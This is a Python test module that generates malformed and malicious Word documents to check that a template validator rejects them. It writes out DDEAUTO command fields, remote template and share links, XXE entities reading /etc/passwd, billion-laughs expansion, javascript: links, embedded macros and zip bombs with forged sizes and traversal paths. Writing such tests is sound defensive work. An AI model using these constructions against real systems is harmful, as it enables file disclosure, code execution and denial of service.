"""Attacks by what a Word template holds: its zip, its relations, its fields, its XML."""

from __future__ import annotations

import struct
import zipfile
import zlib
from functools import partial
from typing import TYPE_CHECKING
from xml.sax.saxutils import escape

from tests.attacks.attack import PACK, Attack

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

BAD, ZIP, GUARD = "MB-030", "MB-045", "MB-046"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
RELATIONS = "word/_rels/document.xml.rels"
MAIN, STYLES, SETTINGS, TYPES = "word/document.xml", "word/styles.xml", "word/settings.xml", "[Content_Types].xml"
BODY = "<w:body>"


def changed(document: Path, changes: dict[str, Callable[[bytes], bytes]], added: dict[str, bytes]) -> None:
    """Rewrite a Word file with some of its parts changed and others added."""
    with zipfile.ZipFile(document) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts = {name: changes.get(name, bytes)(data) for name, data in parts.items()} | added
    with zipfile.ZipFile(document, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def put(xml: str, before: str) -> Callable[[bytes], bytes]:
    """Return what puts some XML before or, for a tag that opens, after a place."""

    def change(data: bytes) -> bytes:
        text = data.decode()
        assert before in text
        return text.replace(before, xml + before if before.startswith("</") else before + xml, 1).encode()

    return change


def tagged(document: Path, said: str) -> None:
    """Put a tag into the first paragraph."""
    paragraph = f"<w:p><w:r><w:t>{escape(said)}</w:t></w:r></w:p>"
    changed(document, {MAIN: put(paragraph, BODY)}, {})


def related(kind: str, target: str, mode: str = ' TargetMode="External"', base: str = OFFICE) -> bytes:
    """Write a relation."""
    return f'<Relationship Id="x" Type="{base}/{kind}" Target="{escape(target)}"{mode}/>'.encode()


def _relations(document: Path, relation: bytes, added: dict[str, bytes]) -> None:
    changed(document, {RELATIONS: put(relation.decode(), "</Relationships>")}, added)


def _of_settings(document: Path, relation: bytes, _: object) -> None:
    listed = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
    changed(document, {}, {"word/_rels/settings.xml.rels": listed % relation})


def field(*pieces: str) -> str:
    """Write a field whose instruction stands in several runs."""
    runs = [f"<w:r><w:instrText>{escape(piece)}</w:instrText></w:r>" for piece in pieces]
    ends = [f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end")]
    return f"<w:p>{ends[0]}{''.join(runs)}{ends[1]}</w:p>"


def simple(code: str) -> str:
    """Write a field in one element."""
    return f'<w:p><w:fldSimple w:instr="{escape(code)}"><w:r><w:t>a</w:t></w:r></w:fldSimple></w:p>'


LINKS = {
    "template from elsewhere": (_of_settings, related("attachedTemplate", "https://example.org/a.dotm")),
    "template from a share": (_of_settings, related("attachedTemplate", r"file:///\\example.org\a.dotm")),
    "picture from elsewhere": (_relations, related("image", "https://example.org/a.png")),
    "object from elsewhere": (_relations, related("oleObject", "https://example.org/a.bin")),
    "document from elsewhere": (_relations, related("subDocument", "file:///a.docx")),
    "frame": (_relations, related("frame", "https://example.org/")),
    "javascript link": (_relations, related("hyperlink", "javascript:alert(1)")),
    "link to a file": (_relations, related("hyperlink", "file:///etc/passwd")),
    "link to a share": (_relations, related("hyperlink", r"\\example.org\a")),
    "style sheet from elsewhere": (_relations, related("styles", "https://example.org/a.xml")),
}
PARTS = {
    "macros": (related("vbaProject", "vbaProject.bin", "", MICROSOFT), {"word/vbaProject.bin": b"\xd0\xcf"}),
    "embedded object": (related("oleObject", "embeddings/a.bin", ""), {"word/embeddings/a.bin": b"\xd0\xcf"}),
    "embedded workbook": (related("package", "embeddings/a.xlsx", ""), {"word/embeddings/a.xlsx": b"PK"}),
    "ActiveX control": (related("control", "activeX/a.xml", ""), {"word/activeX/a.xml": b"<a/>"}),
    "other file": (related("aFChunk", "a.html", ""), {"word/a.html": b"<script>alert(1)</script>"}),
    "drawing with a script": (related("image", "media/a.svg", ""), {"word/media/a.svg": b"<svg/>"}),
    "picture that is none": (related("image", "media/a.png", ""), {"word/media/a.png": b"MZ"}),
}
INSIDE = {
    "other file in the text": '<w:altChunk r:id="x" xmlns:r="' + OFFICE + '"/>',
    "object in the text": "<w:p><w:r><w:object/></w:r></w:p>",
    "drawing from elsewhere": '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
    '<v:imagedata src="https://example.org/a.png"/></v:shape></w:pict></w:r></w:p>',
    "script on a drawing": '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
    'href="javascript:alert(1)"/></w:pict></w:r></w:p>',
    "included text": simple(" INCLUDETEXT file:///etc/passwd "),
    "included picture": field(' INCLUDEPICTURE "https://example.org/a.png" '),
    "DDE": simple(' DDEAUTO c:\\a.exe "a" '),
    "DDE in pieces": field(" D", "DE", "AUTO c:\\a.exe "),
    "link field": field(" LINK Excel.Sheet.8 a.xls "),
    "hyperlink field": simple(' HYPERLINK "javascript:alert(1)" '),
    "formula field": simple(" = 1 + 1 "),
    "macro button": simple(" MACROBUTTON a b "),
    "time field": simple(" DATE "),
    "text of the content in a field": field(" {{ 文档.作者 }} "),
    "text of the content in a simple field": simple(" {{ 文档.作者 }} "),
    "text of the content in a field in pieces": field("{", "{ 文档.作者 }", "}"),
    "text of the content in an attribute": '<w:p><w:hyperlink w:anchor="{{ 文档.作者 }}"/></w:p>',
    "tags that are not closed": f"<w:p><w:r><w:t>{'{{' * 50_000}</w:t></w:r></w:p>",
    "endings without tags": f"<w:p><w:r><w:t>{'-%}' * 50_000}</w:t></w:r></w:p>",
    "many tags": f"<w:p><w:r><w:t>{'{{ 1 }}' * 20_000}</w:t></w:r></w:p>",
    "number that is none": '<w:p><w:pPr><w:spacing w:line="a"/></w:pPr></w:p>',
    "great number": '<w:p><w:pPr><w:ind w:left="1000000000000"/></w:pPr></w:p>',
    "elements in elements": "<w:sdt>" * 10_000 + "</w:sdt>" * 10_000,
}
LAUGHS = "".join(f'<!ENTITY a{number} "{f"&a{number - 1};" * 10}">' for number in range(1, 10))
DOCTYPES = {
    "DOCTYPE": "<!DOCTYPE a>",
    "laughs": f'<!DOCTYPE a [<!ENTITY a0 "a">{LAUGHS}]>',
    "file of the system": '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    "DOCTYPE from elsewhere": '<!DOCTYPE a SYSTEM "https://example.org/a.dtd">',
}


def attacks() -> Iterator[Attack]:
    """Yield all."""
    for name, (way, relation) in LINKS.items():
        yield _attack(name, partial(_with, way, relation, {}), GUARD)
    for name, (relation, added) in PARTS.items():
        yield _attack(name, partial(_with, _relations, relation, added), GUARD)
    for name, xml in INSIDE.items():
        yield _attack(name, partial(_changes, MAIN, put(xml, BODY)), GUARD, BAD)
    for name, declaration in DOCTYPES.items():
        for part in (MAIN, STYLES, RELATIONS, TYPES):
            yield _attack(f"{name} in {part}", partial(_changes, part, partial(_declared, declaration)), GUARD)
    yield _attack("DOCTYPE in UTF-16", partial(_changes, MAIN, _utf16), GUARD)
    yield _attack("DOCTYPE in UTF-7", partial(_changes, MAIN, _utf7), GUARD)
    yield _attack("type of a file with macros", partial(_changes, TYPES, _macro_type), GUARD)
    yield _attack("styles in a circle", partial(_changes, STYLES, _circle), GUARD)
    yield _attack(
        "settings that ask a database", partial(_changes, SETTINGS, put("<w:mailMerge/>", "</w:settings>")), GUARD
    )
    yield from _zips()


def _attack(name: str, harm: Callable[[Path], None], *codes: str) -> Attack:
    return Attack(f"word: {name}", lambda templates: harm(templates / PACK / "document.docx"), codes, ("docx",))


def _with(
    way: Callable[[Path, bytes, dict[str, bytes]], None], relation: bytes, added: dict[str, bytes], file: Path
) -> None:
    way(file, relation, added)


def _changes(part: str, change: Callable[[bytes], bytes], file: Path) -> None:
    changed(file, {part: change}, {})


def _declared(declaration: str, data: bytes) -> bytes:
    head, end, tail = data.partition(b"?>")
    return head + end + declaration.encode() + tail


def _utf16(data: bytes) -> bytes:
    text = _declared(DOCTYPES["laughs"], data).decode()
    return text.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")


def _utf7(data: bytes) -> bytes:
    head, end, tail = data.partition(b"?>")
    return head.replace(b"UTF-8", b"UTF-7") + end + b"+ADw-!DOCTYPE a+AD4-" + tail


def _macro_type(data: bytes) -> bytes:
    return data.replace(
        b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"vnd.ms-word.document.macroEnabled.main+xml",
    )


def _circle(data: bytes) -> bytes:
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="{one}"><w:name w:val="{one}"/><w:basedOn w:val="{other}"/></w:style>'
        for one, other in (("k1", "k2"), ("k2", "k1"))
    )
    return put(styles, "</w:styles>")(data)


def _zips() -> Iterator[Attack]:
    yield _attack("bomb", partial(_added, "word/a.bin", b"\0" * 7_000_000), ZIP)
    yield _attack("bomb of XML", partial(_added, "word/header9.xml", b" " * 30_000_000), ZIP)
    yield _attack("bomb of many parts", _many_parts, ZIP)
    yield _attack("a thousand files", _many_files, ZIP)
    yield _attack("ten megabytes", partial(_appended, b"\0" * 10_000_000), ZIP, "MB-047")
    yield _attack("bomb that lies about its size", _lying, ZIP, BAD)
    yield _attack("bomb in the text", partial(_changes, MAIN, put("<w:p/>" * 300_000, BODY)), ZIP)
    for name in ("../a.xml", "/etc/a.xml", "word/../../a.xml", "C:/a.xml", "word\\a.xml", "word/a\nb.xml"):
        yield _attack(f"path {name!r}", partial(_added, name, b"<a/>"), ZIP)
    yield _attack("two files of one name", partial(_added, "word/Document.xml", b"<a/>"), ZIP)
    yield _attack("password", _encrypted, ZIP, BAD)
    yield _attack("rare compression", _lzma, ZIP)
    yield _attack("cut off", _cut, BAD)
    yield _attack("spoilt", _spoilt, BAD)
    yield _attack("no zip", partial(_replaced, b"\xd0\xcf\x11\xe0" * 1000), BAD)
    yield _attack("empty", partial(_replaced, b""), BAD)


def _added(name: str, data: bytes, file: Path) -> None:
    changed(file, {}, {name: data})


def _many_parts(file: Path) -> None:
    noise = zlib.compress(b"a" * 100_000, 0)  # as it is, so that the ratio stays small
    data = (noise + b"\0" * 5_000_000)[:5_000_000]
    changed(file, {}, {f"word/{number}.bin": data for number in range(20)})


def _many_files(file: Path) -> None:
    changed(file, {}, {f"word/{number}.bin": b"" for number in range(1000)})


def _appended(data: bytes, file: Path) -> None:
    file.write_bytes(file.read_bytes() + data)


def _replaced(data: bytes, file: Path) -> None:
    file.write_bytes(data)


def _entry(data: bytearray, name: bytes) -> tuple[int, int]:
    """Return where the two heads of a file stand in a zip: before its data, and in the list at the end."""
    return data.index(name) - 30, data.rindex(name) - 46


def _lying(file: Path) -> None:
    """Say in both heads that ten megabytes are ten bytes."""
    changed(file, {}, {"word/lie.bin": b"\0" * 10_000_000})
    data = bytearray(file.read_bytes())
    local, listed = _entry(data, b"word/lie.bin")
    data[local + 22 : local + 26] = data[listed + 24 : listed + 28] = struct.pack("<I", 10)
    file.write_bytes(data)


def _encrypted(file: Path) -> None:
    data = bytearray(file.read_bytes())
    local, listed = _entry(data, MAIN.encode())
    data[local + 6] |= 1
    data[listed + 8] |= 1
    file.write_bytes(data)


def _lzma(file: Path) -> None:
    with zipfile.ZipFile(file, "a", zipfile.ZIP_LZMA) as archive:
        archive.writestr("word/a.bin", b"\0" * 1000)


def _cut(file: Path) -> None:
    data = file.read_bytes()
    file.write_bytes(data[: len(data) // 2])


def _spoilt(file: Path) -> None:
    data = bytearray(file.read_bytes())
    local, _ = _entry(data, STYLES.encode())
    data[local + 60] ^= 0xFF
    file.write_bytes(data)
